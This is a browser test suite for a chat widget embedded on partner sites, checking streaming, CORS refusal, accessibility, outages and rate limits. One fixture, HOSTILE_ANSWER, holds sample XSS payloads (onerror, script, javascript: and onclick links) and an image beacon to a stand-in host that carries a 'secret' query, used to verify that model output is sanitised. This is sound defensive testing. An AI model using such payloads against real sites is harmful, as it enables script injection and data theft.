"""The widget in a real headless Chromium, against the real API over a small real index.

Origins: the API (and its demo page) on one port, a partner site listed in CORS on a second, a site
that is not listed on a third; a switchable TCP proxy makes the API unreachable on demand.
Screenshots go to test-artifacts/.
"""

from __future__ import annotations

import dataclasses
import json
import re
import sqlite3
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from axe_playwright_python.base import AXE_SCRIPT
from browser_support import (
    ApiServer,
    StaticServer,
    SwitchableProxy,
    launch_chromium,
    write_host_page,
)
from conftest import make_settings
from rate_window import start_inside_one_window

from api.app import create_app
from connector.settings import PROJECT_ROOT, Settings

pytestmark = pytest.mark.browser

sync_api = pytest.importorskip("playwright.sync_api")

ARTIFACTS = PROJECT_ROOT / "test-artifacts"
GUIDES = ["apprenticeship-levy", "levy-transfers", "free-courses-for-jobs", "careers-help"]
STORE_KEY = "skills-connector:conversation"
LEVY_QUESTION = "Is the levy charged on the whole pay bill?"
TIMEOUT_MS = 30_000

WIDGET_ONLY = "{include: [['skills-connector-chat']]}"
# JavaScript run in the page: the widget's shadow root and what has focus inside it.
ROOT = "document.querySelector('skills-connector-chat').shadowRoot"
FOCUSED = f"""() => {{
  const el = {ROOT}.activeElement;
  if (!el) return null;
  const style = getComputedStyle(el);
  return {{tag: el.tagName.toLowerCase(), text: el.textContent.trim(), cls: el.className,
           href: el.getAttribute('href'), background: style.backgroundColor,
           inPanel: !!el.closest('.panel')}};
}}"""
CSP_WATCH = """window.__csp = [];
document.addEventListener('securitypolicyviolation', e => window.__csp.push(e.violatedDirective));"""


@dataclass
class Stack:
    settings: Settings
    api: ApiServer
    partner: StaticServer
    stranger: StaticServer
    proxy: SwitchableProxy
    browser: Any


def build_small_index(settings: Settings, embedder: Any) -> None:
    """Ingest a few bundled guides with the real pipeline (their URLs are /corpus/<slug>)."""
    from ingest.run import run_ingest

    guides = [
        str(path)
        for path in (PROJECT_ROOT / "corpus" / "docs").rglob("*.md")
        if any(f"slug: {slug}\n" in path.read_text(encoding="utf-8") for slug in GUIDES)
    ]
    assert len(guides) == len(GUIDES)
    run_ingest(settings, guides, embedder=embedder)


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory, embedder: Any) -> Iterator[Stack]:
    tmp = tmp_path_factory.mktemp("widget")
    partner = StaticServer(tmp / "partner")
    stranger = StaticServer(tmp / "stranger")
    settings = make_settings(tmp / "data", cors_origins=[partner.url])
    build_small_index(settings, embedder)
    api = ApiServer(create_app(settings)).start()
    proxy = SwitchableProxy(api.port).start()
    write_host_page(tmp / "partner", api.url)
    write_host_page(tmp / "partner" / "via-proxy", proxy.url)
    write_host_page(tmp / "stranger", api.url)
    partner.start()
    stranger.start()
    ARTIFACTS.mkdir(exist_ok=True)
    with sync_api.sync_playwright() as playwright:
        browser = launch_chromium(playwright)
        try:
            yield Stack(settings, api, partner, stranger, proxy, browser)
        finally:
            browser.close()
            proxy.stop()
            partner.stop()
            stranger.stop()
            api.stop()


@pytest.fixture
def context(stack: Stack) -> Iterator[Any]:
    ctx = stack.browser.new_context(viewport={"width": 1280, "height": 800})
    ctx.set_default_timeout(TIMEOUT_MS)
    yield ctx
    ctx.close()


def open_page(context: Any, url: str, launcher: str = "Skills help") -> Any:
    page = context.new_page()
    page.goto(url)
    page.get_by_role("button", name=launcher).wait_for(state="visible")
    return page


def watch_announcements(page: Any) -> None:
    """Record every text the polite status region is given (what a screen reader would hear)."""
    page.evaluate(
        f"""() => {{
      const live = {ROOT}.querySelector('[role=status][aria-live=polite]');
      window.__announced = [];
      new MutationObserver(() => {{ if (live.textContent) window.__announced.push(live.textContent); }})
        .observe(live, {{childList: true, characterData: true, subtree: true}});
    }}"""
    )


def ask(page: Any, question: str) -> Any:
    """Type and send; returns the finished answer bubble."""
    before = page.locator("li.msg.bot[data-answer-id]").count()
    page.get_by_label("Your question").fill(question)
    page.get_by_role("button", name="Send", exact=True).click()
    answer = page.locator("li.msg.bot[data-answer-id]").nth(before)
    answer.wait_for()
    return answer


def feedback_rows(settings: Settings) -> list[tuple[Any, ...]]:
    with sqlite3.connect(settings.app_db_path) as conn:
        return conn.execute("SELECT answer_id, helpful, comment FROM feedback").fetchall()


def test_demo_page_streams_an_answer_with_sources_feedback_and_clear(stack: Stack, context: Any) -> None:
    context.add_init_script(CSP_WATCH)
    page = open_page(context, stack.api.url + "/demo")
    chat_responses: list[Any] = []
    page.on("response", lambda r: chat_responses.append(r) if r.url.endswith("/v1/chat") else None)

    page.get_by_role("button", name="Skills help").click()
    page.get_by_role("button", name="I'm an employer").click()
    watch_announcements(page)
    stored_early = page.evaluate(f"() => sessionStorage.getItem('{STORE_KEY}')")
    assert stored_early is None, "nothing is stored before the first message"

    page.get_by_label("Your question").fill(LEVY_QUESTION)
    page.get_by_role("button", name="Send", exact=True).dblclick()  # a double click must send once
    answer = page.locator("li.msg.bot[data-answer-id]").first
    answer.wait_for()

    assert page.locator("li.msg.user").count() == 1
    assert len(chat_responses) == 1
    assert chat_responses[0].headers["content-type"].startswith("text/event-stream")
    text = answer.locator(".answer-text").inner_text()
    assert "0.5%" in text
    page.wait_for_function("() => window.__announced.length >= 2")
    page.wait_for_timeout(300)
    announced = page.evaluate("window.__announced")
    assert sum("0.5%" in a for a in announced) == 1, announced  # the answer is read once, not per token

    link = answer.locator(".sources a").first
    href = link.get_attribute("href")
    assert href.startswith(stack.api.url + "/corpus/")
    assert link.get_attribute("target") == "_blank"
    assert link.get_attribute("rel") == "noopener noreferrer"
    with context.expect_page() as opened:
        link.click()
    guide = opened.value
    guide.wait_for_load_state()
    assert guide.url == href
    assert "levy" in guide.title().lower()
    guide.close()

    page.screenshot(path=str(ARTIFACTS / "widget-desktop-1280x800.png"))
    answer.get_by_role("button", name="No").click()
    answer.get_by_label(re.compile("What was missing")).fill("Nothing about Colchester")
    answer.get_by_role("button", name="Send comment").click()
    answer.get_by_text("Thanks, we'll use this").wait_for()
    answer_id = answer.get_attribute("data-answer-id")
    assert (answer_id, 0, "Nothing about Colchester") in feedback_rows(stack.settings)

    stored = page.evaluate(f"() => JSON.parse(sessionStorage.getItem('{STORE_KEY}'))")
    assert stored["audience"] == "employer" and stored["id"]
    assert context.cookies() == []

    page.get_by_role("button", name=re.compile("Start again")).click()
    assert page.locator("li.msg").count() == 0
    assert page.evaluate(f"() => sessionStorage.getItem('{STORE_KEY}')") is None
    page.get_by_role("button", name="I'm an employer").wait_for()
    assert page.evaluate("window.__csp") == [], "the widget works under the demo page's strict CSP"


def test_partner_site_on_another_origin_at_phone_size(stack: Stack) -> None:
    ctx = stack.browser.new_context(viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True,
                                    reduced_motion="reduce")  # fmt: skip
    ctx.set_default_timeout(TIMEOUT_MS)
    contacted: set[str] = set()
    ctx.on("request", lambda r: contacted.add(re.sub(r"^(https?://[^/]+).*", r"\1", r.url)))
    try:
        page = open_page(ctx, stack.partner.url + "/", launcher="Ask about courses")
        launcher = page.get_by_role("button", name="Ask about courses")
        # The host hides every <button> and forces Comic Sans; neither reaches into the shadow root.
        assert "Comic" not in launcher.evaluate("el => getComputedStyle(el).fontFamily")
        # data-accent="#ffee00" is too pale for white text: the safe colour is used instead.
        assert launcher.evaluate("el => getComputedStyle(el).backgroundColor") == "rgb(0, 98, 155)"
        launcher.click()
        box = page.locator(".panel").bounding_box()
        assert box == {"x": 0, "y": 0, "width": 390, "height": 844}
        page.get_by_role("button", name="I'm looking for a course").click()
        answer = ask(page, "What is Free Courses for Jobs?")
        assert answer.locator(".answer-text").inner_text().strip()
        assert answer.locator(".sources a").count() >= 1
        dots = page.locator(".dots span")
        assert dots.count() == 0 or dots.first.evaluate("el => getComputedStyle(el).animationName") == "none"
        small = page.evaluate(
            f"""() => [...{ROOT}.querySelectorAll('.panel button, .sources a, .contact a')]
              .filter(el => el.getClientRects().length)
              .map(el => el.getBoundingClientRect())
              .filter(r => r.width < 24 || r.height < 24).length"""
        )
        assert small == 0, "every control is at least 24 by 24 px"
        page.screenshot(path=str(ARTIFACTS / "widget-phone-390x844.png"))
        assert axe_serious(page, WIDGET_ONLY) == [], "the widget at phone size, on a careless host page"
        assert contacted <= {stack.partner.url, stack.api.url}, "no third parties are contacted"
    finally:
        ctx.close()


def test_keyboard_only_from_launcher_to_sources_and_back(stack: Stack, context: Any) -> None:
    page = open_page(context, stack.api.url + "/demo")
    for _ in range(40):  # Tab through the host page: the launcher comes after its own links
        page.keyboard.press("Tab")
        if (page.evaluate(FOCUSED) or {}).get("cls") == "launcher":
            break
    else:
        pytest.fail("the launcher is not reachable with Tab")
    page.keyboard.press("Enter")
    focus = page.evaluate(FOCUSED)
    assert focus["text"] == "I'm an employer" and focus["inPanel"]
    assert focus["background"] == "rgb(255, 221, 0)", "focus is visible (yellow)"
    page.keyboard.press("Enter")
    assert page.evaluate(FOCUSED)["tag"] == "textarea"
    page.keyboard.type(LEVY_QUESTION)
    page.keyboard.press("Enter")
    page.locator("li.msg.bot[data-answer-id]").first.wait_for()

    tab_to(page, lambda f: bool(f["href"]) and "/corpus/" in f["href"] and "cite" not in f["cls"])
    tab_to(page, lambda f: f["text"] == "No" and f["tag"] == "button")
    page.keyboard.press("Enter")
    page.wait_for_function(f"() => {ROOT}.activeElement?.tagName === 'TEXTAREA'")
    assert page.evaluate(FOCUSED)["inPanel"] and page.evaluate(FOCUSED)["cls"] == "", "the comment box"
    page.keyboard.type("Too general")
    page.keyboard.press("Tab")
    assert page.evaluate(FOCUSED)["text"] == "Send comment"
    page.keyboard.press("Enter")
    page.wait_for_function(f"() => {ROOT}.activeElement?.classList.contains('feedback-note')")
    assert [row[1:] for row in feedback_rows(stack.settings)][-1:] == [(0, "Too general")]
    for _ in range(40):  # keep going: focus wraps around inside the panel
        page.keyboard.press("Tab")
        assert page.evaluate(FOCUSED)["inPanel"]
    page.keyboard.press("Escape")
    assert page.locator(".panel").is_hidden()
    assert page.evaluate(FOCUSED)["cls"] == "launcher", "focus returns to the launcher"


def tab_to(page: Any, wanted: Any, limit: int = 40) -> dict[str, Any]:
    """Press Tab until the focused element is the one wanted; focus must never leave the open panel."""
    seen = []
    for _ in range(limit):
        page.keyboard.press("Tab")
        focus = page.evaluate(FOCUSED)
        assert focus and focus["inPanel"], f"focus left the open panel after {seen[-3:]}"
        seen.append(focus["text"][:30])
        if wanted(focus):
            return focus
    raise AssertionError(f"not reached with Tab: {seen}")


def axe_serious(page: Any, scope: str = "document") -> list[str]:
    """Serious and critical WCAG 2.2 A/AA violations found by axe-core (whole page, or just the widget)."""
    page.evaluate(AXE_SCRIPT)
    result = page.evaluate(
        f"""() => axe.run({scope}, {{runOnly: {{type: 'tag',
             values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa']}}}})"""
    )
    shadow_nodes = [n for rule in result["passes"] for n in rule["nodes"] if isinstance(n["target"][0], list)]
    assert shadow_nodes, "axe looked inside the widget's shadow root"
    return [
        f"{v['id']} ({v['impact']}): {[n['target'] for n in v['nodes']][:3]}"
        for v in result["violations"]
        if v["impact"] in ("serious", "critical")
    ]


def test_axe_finds_no_serious_or_critical_violations(stack: Stack) -> None:
    ctx = stack.browser.new_context(viewport={"width": 1280, "height": 800}, bypass_csp=True)
    ctx.set_default_timeout(TIMEOUT_MS)
    try:
        page = open_page(ctx, stack.api.url + "/demo")
        page.get_by_role("button", name="Skills help").click()
        assert axe_serious(page) == [], "audience chooser"
        page.get_by_role("button", name="I'm an employer").click()
        ask(page, "Can we transfer levy funds to another employer?")
        assert axe_serious(page) == [], "answer with sources and feedback"
    finally:
        ctx.close()


def test_unlisted_origin_is_refused_and_told_kindly(stack: Stack, context: Any) -> None:
    page = context.new_page()
    ours: list[str] = []
    page.on(
        "console", lambda message: ours.append(message.text) if "SkillsConnector:" in message.text else None
    )
    with page.expect_console_message(lambda message: "SkillsConnector:" in message.text) as logged:
        page.goto(stack.stranger.url + "/")
        page.get_by_role("button", name="Ask about courses").click()
        page.get_by_text("isn't available on this website").wait_for()
    told = logged.value.text
    assert logged.value.type == "error"
    assert stack.stranger.url in told and stack.api.url in told and "CONNECTOR_CORS_ORIGINS" in told
    assert ours == [told], "the web team is told once"
    assert page.get_by_text("isn't available on this website").count() == 1, "visitors are told once"
    assert page.get_by_text("can't be reached").count() == 0
    assert page.get_by_role("button", name="Try again").count() == 0, "retrying cannot help"
    assert page.get_by_label("Your question").is_hidden()
    assert page.get_by_role("button", name="I'm an employer").count() == 0
    assert axe_serious(page, WIDGET_ONLY) == [], "refused state"


def test_demo_page_lists_the_allowed_origins(stack: Stack, context: Any) -> None:
    page = open_page(context, stack.api.url + "/")
    assert stack.partner.url in page.locator("#allowed-origins").inner_text()


def test_api_down_shows_a_friendly_message_and_retry_recovers(stack: Stack, context: Any) -> None:
    page = open_page(context, stack.partner.url + "/via-proxy/", launcher="Ask about courses")
    stack.proxy.set(down=True)
    try:
        page.get_by_role("button", name="Ask about courses").click()
        page.get_by_text("can't be reached").first.wait_for()
        page.get_by_role("button", name="I'm an employer").click()
        page.get_by_label("Your question").fill(LEVY_QUESTION)
        page.get_by_role("button", name="Send", exact=True).click()
        error = page.locator("li.msg.bot.error")
        error.wait_for()
        assert page.get_by_role("button", name="Send", exact=True).get_attribute("aria-disabled") is None, (
            "nothing stuck"
        )
    finally:
        stack.proxy.set(down=False, cut=False)
    error.get_by_role("button", name="Try again").click()
    answer = page.locator("li.msg.bot[data-answer-id]").first
    answer.wait_for()
    assert "0.5%" in answer.inner_text()
    assert page.locator("li.msg.bot.error").count() == 0
    assert page.locator("li.msg.user").count() == 1, "the retry does not repeat the question"
    page.locator(".banner").wait_for(state="hidden")  # the "can't be reached" warning goes away


def test_tool_result_renders_as_a_card(stack: Stack, context: Any) -> None:
    page = open_page(context, stack.api.url + "/")
    page.get_by_role("button", name="Skills help").click()
    page.get_by_role("button", name="I'm an employer").click()
    answer = ask(page, "What levy would we pay on a pay bill of £4.2m?")
    card = answer.locator("article.card.tool")
    card.wait_for()
    assert "£6,000" in card.inner_text()  # 0.5% of £4.2m minus the £15,000 allowance
    card.get_by_text("How this was worked out").click()
    assert card.locator("details li").count() >= 1


HOSTILE_ANSWER = (
    "The levy is **0.5%** of your annual pay bill [1].\n\n"
    "- <img src=x onerror=\"window.__pwned='img'\"> allowance of £15,000 [1]\n"
    "- <script>window.__pwned='script'</script> only over £3 million [1]\n\n"
    "[Apply here](javascript:window.__pwned='link') and ![x](http://127.0.0.1:9/leak.png?q=secret) "
    '<a href="https://evil.example" onclick="window.__pwned=\'a\'">offer</a> '
    "https://example.org/a/really/long/address/without/any/spaces/that/must/wrap/inside/the/panel/instead/"
    "of/pushing/it/wider/than/the/screen/0123456789012345678901234567890123456789 [1]\n\n"
    "Reference " + "X" * 300 + " [1]"
)


@pytest.fixture(scope="module")
def hostile_api(stack: Stack) -> Iterator[ApiServer]:
    """The same index and settings, with a language model that writes markup and script into answers."""
    from langchain_core.language_models.fake_chat_models import FakeListChatModel

    app = create_app(stack.settings)
    # A short pause per streamed character, so the answer arrives in many pieces as from a real model.
    model = FakeListChatModel(responses=[HOSTILE_ANSWER], sleep=0.004)
    # The loaded model and index are shared with the main API; only the language model differs.
    app.state.services = dataclasses.replace(stack.api.app.state.services, llm=model)
    api = ApiServer(app).start()
    yield api
    api.stop()


def test_hostile_model_output_is_streamed_but_rendered_inert(hostile_api: ApiServer, context: Any) -> None:
    page = open_page(context, hostile_api.url + "/demo")
    page.evaluate(
        f"""() => new MutationObserver(() => {{
          const bubble = {ROOT}.querySelector('li.msg.bot[aria-busy]');
          if (bubble && bubble.querySelector('.answer-text').textContent) window.__partial = true;
        }}).observe({ROOT}, {{childList: true, subtree: true, characterData: true}})"""
    )
    page.get_by_role("button", name="Skills help").click()
    page.get_by_role("button", name="I'm an employer").click()
    answer = ask(page, LEVY_QUESTION)
    page.wait_for_timeout(300)
    assert page.evaluate("window.__pwned") is None
    assert page.evaluate("window.__partial") is True, "text appeared before the answer was complete"
    inside = page.evaluate(
        f"""() => ({{
          tags: [...{ROOT}.querySelectorAll('.answer-text *')].map(el => el.tagName.toLowerCase()),
          hrefs: [...{ROOT}.querySelectorAll('a')].map(a => a.getAttribute('href')),
          handlers: [...{ROOT}.querySelectorAll('*')].filter(el => [...el.attributes]
                      .some(a => a.name.startsWith('on'))).length,
          overflow: {ROOT}.querySelector('.scroll').scrollWidth - {ROOT}.querySelector('.scroll').clientWidth,
        }})"""
    )
    assert set(inside["tags"]) <= {"p", "ul", "ol", "li", "strong", "br", "a", "span"}, inside["tags"]
    assert all(h.startswith(("http://", "https://", "mailto:", "tel:")) for h in inside["hrefs"]), inside
    assert not any("evil.example" in h or "leak.png" in h for h in inside["hrefs"])
    assert inside["handlers"] == 0
    assert inside["overflow"] <= 0, "long words wrap instead of widening the panel"
    assert "0.5%" in answer.locator(".answer-text").inner_text()


def test_command_queue_works_before_and_after_the_script_loads(stack: Stack, context: Any) -> None:
    context.add_init_script("window.SkillsConnector = [['setAudience', 'provider'], ['open']];")
    page = context.new_page()
    page.goto(stack.api.url + "/demo")
    panel = page.locator(".panel")
    panel.wait_for()  # opened by the queued command, without a click
    assert "a training provider" in page.locator(".audience-line").inner_text()
    assert "AI-assisted" in page.locator(".disclaimer").inner_text()
    contact = page.locator("p.contact")
    assert "Talk to a person" in contact.inner_text()
    assert contact.locator("a[href^='mailto:']").count() == 1
    page.evaluate("SkillsConnector.push(['close'])")
    assert panel.is_hidden()
    page.get_by_role("button", name="Ask our skills assistant").click()  # the host page's own button
    panel.wait_for()
    page.evaluate("SkillsConnector.push(['setAudience', 'learner'])")
    assert "looking for a course" in page.locator(".audience-line").inner_text()


def test_server_error_during_the_stream_shows_a_reference_and_retry(stack: Stack, context: Any) -> None:
    """A part of the answer pipeline fails after the stream has started: the error event reaches the user."""
    app = create_app(stack.settings)
    app.state.services = dataclasses.replace(stack.api.app.state.services, retriever=None)
    broken = ApiServer(app).start()
    try:
        page = open_page(context, broken.url + "/demo")
        page.get_by_role("button", name="Skills help").click()
        page.get_by_role("button", name="I'm an employer").click()
        page.get_by_label("Your question").fill(LEVY_QUESTION)
        page.get_by_role("button", name="Send", exact=True).click()
        error = page.locator("li.msg.bot.error")
        error.wait_for()
        assert "something went wrong" in error.inner_text()
        assert re.search(r"Reference: [0-9a-f]+", error.inner_text())
        assert error.get_by_role("button", name="Try again").is_visible()
        assert page.get_by_role("button", name="Send", exact=True).get_attribute("aria-disabled") is None
    finally:
        broken.stop()


def test_slow_api_shows_progress_and_the_answer_still_arrives(stack: Stack, context: Any) -> None:
    page = open_page(context, stack.partner.url + "/via-proxy/", launcher="Ask about courses")
    page.get_by_role("button", name="Ask about courses").click()
    page.get_by_role("button", name="I'm an employer").click()
    ask(page, "Can we transfer levy funds to another employer?")  # the CORS preflight is now cached
    stack.proxy.set(delay=9.0)  # longer than the widget's 8 s "still working" notice
    try:
        page.get_by_label("Your question").fill(LEVY_QUESTION)
        page.get_by_role("button", name="Send", exact=True).click()
        page.get_by_text("Still working on it").wait_for()
        assert page.get_by_role("button", name="Send", exact=True).get_attribute("aria-disabled") == "true"
        page.get_by_role(
            "button", name="Send", exact=True
        ).click()  # pressing again while waiting sends nothing
    finally:
        stack.proxy.set(delay=0.0, cut=False)
    answer = page.locator("li.msg.bot[data-answer-id]").nth(1)
    answer.wait_for()
    assert "0.5%" in answer.inner_text()
    assert page.locator("li.msg.user").count() == 2
    assert page.get_by_role("button", name="Send", exact=True).get_attribute("aria-disabled") is None


def test_final_answer_is_not_redrawn_by_a_render_queued_while_streaming(stack: Stack, context: Any) -> None:
    """The last streamed words and the final result often arrive in one read; the finished answer must not be
    drawn again, so a link a keyboard user has already focused stays in the page."""
    source = {"url": stack.api.url + "/corpus/levy", "title": "Levy guide"}
    done = {
        "answer": "The levy is 0.5% of the pay bill [1].",
        "sources": [source],
        "status": "answered",
        "answer_id": "a-1",
        "session_id": "s-1",
        "follow_ups": [],
    }
    events = [("delta", {"text": done["answer"]}), ("sources", {"sources": [source]}), ("done", done)]
    body = "".join(f"event: {name}\ndata: {json.dumps(data)}\n\n" for name, data in events)
    page = open_page(context, stack.api.url + "/demo")
    stream = {"status": 200, "content_type": "text/event-stream", "body": body}
    page.route("**/v1/chat", lambda route: route.fulfill(**stream))
    page.get_by_role("button", name="Skills help").click()
    page.get_by_role("button", name="I'm an employer").click()
    ask(page, LEVY_QUESTION)
    page.evaluate(f"() => {{ window.__first = {ROOT}.querySelector('li.msg.bot .answer-text a'); }}")
    page.wait_for_timeout(200)  # longer than the widget's render delay
    assert page.evaluate("() => window.__first && window.__first.isConnected"), "the answer was drawn again"


@pytest.fixture(scope="module")
def limited_api(stack: Stack) -> Iterator[ApiServer]:
    """The same index and model, allowing each visitor one question a minute."""
    app = create_app(stack.settings.model_copy(update={"chat_rate": "1/minute"}))
    app.state.services = stack.api.app.state.services
    api = ApiServer(app).start()
    yield api
    api.stop()


def test_a_visitor_over_the_limit_is_asked_kindly_to_wait(limited_api: ApiServer, context: Any) -> None:
    start_inside_one_window(burst_seconds=25)
    page = open_page(context, limited_api.url + "/demo")
    page.get_by_role("button", name="Skills help").click()
    page.get_by_role("button", name="I'm an employer").click()
    assert "0.5%" in ask(page, LEVY_QUESTION).inner_text()
    page.get_by_label("Your question").fill("Can we transfer levy funds?")
    page.get_by_role("button", name="Send", exact=True).click()
    error = page.locator("li.msg.bot.error")
    error.wait_for()
    assert "Please wait a minute and try again" in error.inner_text()
    assert page.get_by_role("button", name="Send", exact=True).get_attribute("aria-disabled") is None
